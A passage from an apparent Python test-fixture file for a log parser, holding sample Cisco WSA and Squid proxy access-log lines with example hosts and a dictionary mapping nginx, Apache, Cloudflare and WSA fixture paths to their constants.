    '2026-03-10 04:40:02 192.0.2.242 "user18@corp" GET http://shop.example.com/c/lamps?page=2 TCP_MISS 200 22910 612 DIRECT shop.example.com 203.0.113.44 IW_shop "Mozilla/5.0 (X11; Linux x86_64)" http://shop.example.com/ 5.0',
    '2026-03-10 04:40:05 192.0.2.242 - GET http://away.example.org/ NONE 504 1653 580 DIRECT - 203.0.113.45 nc "Mozilla/5.0 (X11; Linux x86_64)" - ns',
    '2026-03-10 04:40:06 192.0.2.243 - POST http://up.example.net/form TCP_DENIED 403 2188 70211 NONE - - IW_free "" - 1.2',
    "1773117607.000 a line of other fields",
    # a choice that no record can be made of
    "#Fields: c-ip cs-url",
    "192.0.2.243 http://www.example.com/",
)

SQUID_NATIVE = _log(
    "1773118200.123     84 192.0.2.244 TCP_MISS/200 5316 GET http://www.example.com/a?b=c - HIER_DIRECT/203.0.113.44 text/html",
    "1773118201.004      0 192.0.2.244 TCP_DENIED/407 4041 GET http://www.example.com/ - HIER_NONE/- text/html",
    "1773118201.190  16867 192.0.2.244 TCP_TUNNEL/200 6256 CONNECT crm.example.net:443 user19 HIER_DIRECT/203.0.113.45 -",
    "1773118202.000      1 2001:db8:41::9 NONE_NONE/400 3400 - error:invalid-request - HIER_NONE/- text/html",
    "1773118203.500      0 192.0.2.245 TCP_MEM_HIT/200 911 GET http://wiki.example.org/a.css ada lovelace HIER_NONE/- text/css",
    "1773118204.250     12 192.0.2.245 TCP_MISS_ABORTED/000 0 GET http://wiki.example.org/big - HIER_DIRECT/203.0.113.46 -",
)

QUIRKS = {
    "nginx/combined.log": NGINX_COMBINED,
    "nginx/request_oddities.log": NGINX_REQUEST_ODDITIES,
    "nginx/crlf.log": NGINX_CRLF,
    "nginx/broken.log": NGINX_BROKEN,
    "nginx/hostile.log": NGINX_HOSTILE,
    "apache/common.log": APACHE_COMMON,
    "apache/combined.log": APACHE_COMBINED,
    "apache/vhost_combined.log": APACHE_VHOST_COMBINED,
    "apache/request_oddities.log": APACHE_REQUEST_ODDITIES,
    "cloudflare/unixnano.ndjson": CLOUDFLARE_UNIXNANO,
    "cloudflare/unix.ndjson": CLOUDFLARE_UNIX,
    "cloudflare/rfc3339.ndjson": CLOUDFLARE_RFC3339,
    "cloudflare/numeric_text.ndjson": CLOUDFLARE_NUMERIC_TEXT,
    "cloudflare/subrequests.ndjson": CLOUDFLARE_SUBREQUESTS,
    "cloudflare/legacy.ndjson": CLOUDFLARE_LEGACY,
    "cisco_wsa/accesslog.log": WSA_ACCESSLOG,
    "cisco_wsa/info_prefix.log": WSA_INFO_PREFIX,
    "cisco_wsa/syslog.log": WSA_SYSLOG,
    "cisco_wsa/layouts.log": WSA_LAYOUTS,
    "cisco_wsa/handshakes.log": WSA_HANDSHAKES,
    "cisco_wsa/banner.log": WSA_BANNER,
    "cisco_wsa/oddities.log": WSA_ODDITIES,
    "cisco_wsa/w3c.log": WSA_W3C,
    "cisco_wsa/squid.log": SQUID_NATIVE,
}
